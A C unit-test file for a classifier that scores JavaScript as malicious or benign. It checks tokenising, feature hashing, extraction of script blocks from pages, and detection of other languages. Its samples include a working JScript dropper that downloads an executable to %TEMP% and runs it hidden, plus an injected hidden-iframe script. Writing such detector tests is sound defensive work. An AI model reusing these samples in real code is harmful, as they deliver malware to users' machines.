/* SPDX-License-Identifier: LGPL-2.1-or-later */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <cmocka.h>

#include "analysis/jsmodel.h"

struct seen {
        uint32_t h[64];
        size_t n;
};

static void record(void *userdata, uint32_t h)
{
        struct seen *x = userdata;

        if (x->n < 64)
                x->h[x->n++] = h;
}

static uint32_t h(const char *word)
{
        return vocab_hash(word, strlen(word));
}

static void expect(const char *s, const char *const *want, size_t n)
{
        struct seen x = {.n = 0};

        jsmodel_tokens(s, strlen(s), 0, record, &x);
        for (size_t i = 0; i < x.n && i < n; i++)
                if (x.h[i] != h(want[i]))
                        fail_msg("token %zu of %s: want %s", i, s, want[i]);
        assert_int_equal(x.n, n);
}

#define EXPECT(s, ...)                                              \
        do {                                                        \
                const char *const want_[] = {__VA_ARGS__};          \
                expect(s, want_, sizeof(want_) / sizeof(want_[0])); \
        } while (0)

static void test_script(void **state)
{
        (void)state;
        /* names split at dots, words inside strings; comments, a URL past its scheme, numbers,
         * one-letter names and \x escapes left out */
        EXPECT("// by Someone\n/* MIT */ var sh = new ActiveXObject(\"WScript.Shell\");\n"
               "sh.Run('cmd /c \\x41start', 0); x = 'https://example.com/a.exe?b=1';",
               "var", "sh", "new", "activexobject", "wscript", "shell", "sh", "run", "cmd", "start",
               "https");
        /* obfuscator.io's names are one token; _0x alone or with other letters is a name */
        EXPECT("var _0x3fa1=['log'];_0xAB12(_0x3fa1[0]); _0xz = 1;", "var", "_0x", "log", "_0x",
               "_0x", "_0xz");
        /* JScript's conditional compilation is code, not a comment */
        EXPECT("/*@cc_on @if (@_jscript) WScript.Echo(1) @end @*/", "cc_on", "if", "_jscript",
               "wscript", "echo", "end");
        /* a lone quote of a regular expression ends at its line; template strings span lines */
        EXPECT("s.replace(/'/g, \"\");\nfoo(`a\nbar`)", "replace", "foo", "bar");
}

static void test_blob(void **state)
{
        (void)state;
        EXPECT("eval(atob('7X1rcxs5kuBnzq/AcHqbVLdEkZRk2ZIlt0P9mJ7pdq3d27M7sR1BkUWJ/a4t+jiX+z=='));"
               " p = 'usr/bin';",
               "eval", "atob", "usr", "bin");
}

static void test_pairs_and_features(void **state)
{
        (void)state;
        struct seen x = {.n = 0};
        struct jsmodel_features f;

        jsmodel_tokens("eval(unescape(str))", 19, JSMODEL_PAIRS, record, &x);
        /* three tokens and two pairs */
        assert_int_equal(x.n, 5);
        assert_int_equal(x.h[0], h("eval"));
        assert_int_equal(x.h[1], h("unescape"));
        assert_true(x.h[2] != h("eval") && x.h[2] != h("unescape") && x.h[2] != h("str"));
        assert_int_equal(x.h[3], h("str"));
        const char *twice = "eval(code); EVAL(Code);";
        jsmodel_features(twice, strlen(twice), 0, &f);
        assert_int_equal(f.tokens, 4);
        size_t set = 0;
        for (size_t w = 0; w < JSMODEL_BUCKETS / 64; w++)
                set += (size_t)__builtin_popcountll(f.bits[w]);
        assert_int_equal(set, 2);
}

static void test_bounded(void **state)
{
        (void)state;
        const char *open[] = {"'abc",   "\"ab\\", "/* abc", "`ab", "/*@", "\"\\x",
                              "\"\\u4", "a://",   "'",      "ab/", "//"};
        for (size_t i = 0; i < sizeof(open) / sizeof(open[0]); i++) {
                struct jsmodel_features f;
                jsmodel_features(open[i], strlen(open[i]), JSMODEL_PAIRS, &f);
                assert_true(f.tokens <= 1);
        }
}

struct bodies {
        char text[4][128];
        size_t n;
};

static void body(void *userdata, const char *s, size_t len)
{
        struct bodies *b = userdata;

        if (b->n < 4 && len < 128) {
                memcpy(b->text[b->n], s, len);
                b->text[b->n++][len] = '\0';
        }
}

static void test_blocks(void **state)
{
        (void)state;
        const char *long_body = "var a = document.getElementById('menu'); a.className = 'open';"
                                " window.scrollTo(0, 0);";
        char page[1024];
        struct bodies b = {.n = 0};

        /* inline bodies of at least JSMODEL_BLOCK_MIN bytes, whatever the case of the tag, the
         * last one unterminated; an empty one with a source, a short one and <scripts> (no
         * tag) are not */
        snprintf(page, sizeof(page),
                 "<html><SCRIPT type=\"text/javascript\">%s</Script><script src=a.js></script>"
                 "<script>x()</script><scripts>%s</scripts><script>\n%s",
                 long_body, long_body, long_body);
        assert_int_equal(jsmodel_blocks(page, strlen(page), body, &b), 2);
        assert_string_equal(b.text[0], long_body);
        assert_true(b.text[1][0] == '\n' && strcmp(b.text[1] + 1, long_body) == 0);
        /* no block: no score */
        size_t n = 1;
        assert_int_equal(jsmodel_score_page("<html><p>hi</p></html>", 22, &n), 0);
        assert_int_equal(n, 0);
        /* the page's score is its block's */
        assert_int_equal(jsmodel_score_page(page, strlen(page), &n),
                         jsmodel_score(long_body, strlen(long_body)));
        assert_int_equal(n, 2);
}

static void test_reads_as_javascript(void **state)
{
        (void)state;
        const char *yes[] = {"var a = 1;", "\xef\xbb\xbf  function f() { return 2 }",
                             "x = new ActiveXObject('WScript.Shell'); x.Run('calc')"};
        /* markup and XML, another language's words in any case, no ';' or '{' at all */
        const char *no[] = {
                "<?xml version=\"1.0\"?><job><script>var a = 1;</script></job>",
                "  <html><script>var a;</script>",
                "Sub Main()\n  x = 1;\nEND SUB\n",
                "If a Then\n b = 2 ' ;\nEnd If\n",
                "Attribute VB_Name = \"Module1\"\nx = 1;",
                "$u = $ENV:TEMP; $w = NEW-OBJECT Net.WebClient;",
                "Write-Host 'hi'; { }",
                "Get-Item x -ErrorAction SilentlyContinue; { }",
                "@ECHO OFF\r\nset a=1 & echo {",
                "x = 1\ny = 2\n",
        };
        for (size_t i = 0; i < sizeof(yes) / sizeof(yes[0]); i++)
                if (!jsmodel_reads_as_javascript(yes[i], strlen(yes[i])))
                        fail_msg("not JavaScript: %s", yes[i]);
        for (size_t i = 0; i < sizeof(no) / sizeof(no[0]); i++)
                if (jsmodel_reads_as_javascript(no[i], strlen(no[i])))
                        fail_msg("JavaScript: %s", no[i]);
        /* a page's VBScript body is not scored */
        const char *vbs = "<html><script language=\"VBScript\">\nSub Window_OnLoad\n"
                          "  Set sh = CreateObject(\"WScript.Shell\") : sh.Run \"calc\"\n"
                          "End Sub\n</script></html>";
        size_t n = 1;
        assert_int_equal(jsmodel_score_page(vbs, strlen(vbs), &n), 0);
        assert_int_equal(n, 0);
}

/* The trained table ranks a dropper's and an injection's vocabulary above a library's. */
static void test_model_ranks(void **state)
{
        (void)state;
        const char *dropper =
                "var sh = new ActiveXObject('WScript.Shell');\n"
                "var fso = new ActiveXObject('Scripting.FileSystemObject');\n"
                "var path = sh.ExpandEnvironmentStrings('%TEMP%') + '\\\\upd.exe';\n"
                "var x = new ActiveXObject('MSXML2.XMLHTTP'); x.open('GET', u, false); x.send();\n"
                "if (x.status == 200) { var s = new ActiveXObject('ADODB.Stream'); s.Open();\n"
                "s.Type = 1; s.Write(x.responseBody); s.SaveToFile(path, 2); s.Close();\n"
                "sh.Run(path, 0, false); }\n";
        const char *injected =
                "(function(){ if (document.cookie.indexOf('__utmz') == -1 && "
                "document.referrer.indexOf('google') != -1) { var d = new Date(); "
                "d.setTime(d.getTime() + 86400000); document.cookie = '__utmz=1; expires=' + "
                "d.toGMTString() + '; path=/'; document.write('<iframe src=\"' + "
                "String.fromCharCode(104,116,116,112) + '\" width=\"1\" height=\"1\" "
                "style=\"visibility:hidden;position:absolute;left:-1000px\"></iframe>'); } })();\n";
        const char *library =
                "/*! a menu */\n(function ($) {\n  'use strict';\n"
                "  var Menu = function (element, options) {\n"
                "    this.$element = $(element);\n"
                "    this.options = $.extend({}, Menu.DEFAULTS, options);\n"
                "    this.$element.on('click.bs.menu', $.proxy(this.toggle, this));\n  };\n"
                "  Menu.prototype.toggle = function (e) {\n"
                "    e.preventDefault();\n    this.$element.toggleClass('open');\n"
                "    this.$element.attr('aria-expanded', this.$element.hasClass('open'));\n"
                "    return this;\n  };\n  $.fn.menu = function (option) {\n"
                "    return this.each(function () { new Menu(this, option); });\n  };\n"
                "})(jQuery);\n";

        assert_true(jsmodel_score(dropper, strlen(dropper)) > 0);
        assert_true(jsmodel_score(injected, strlen(injected)) >
                    jsmodel_score(library, strlen(library)));
        assert_true(jsmodel_score(library, strlen(library)) < 0);
        assert_true(jsmodel_score("", 0) == jsmodel_bias);
}

int main(void)
{
        const struct CMUnitTest tests[] = {
                cmocka_unit_test(test_script),
                cmocka_unit_test(test_blob),
                cmocka_unit_test(test_pairs_and_features),
                cmocka_unit_test(test_bounded),
                cmocka_unit_test(test_blocks),
                cmocka_unit_test(test_reads_as_javascript),
                cmocka_unit_test(test_model_ranks),
        };
        return cmocka_run_group_tests(tests, NULL, NULL);
}
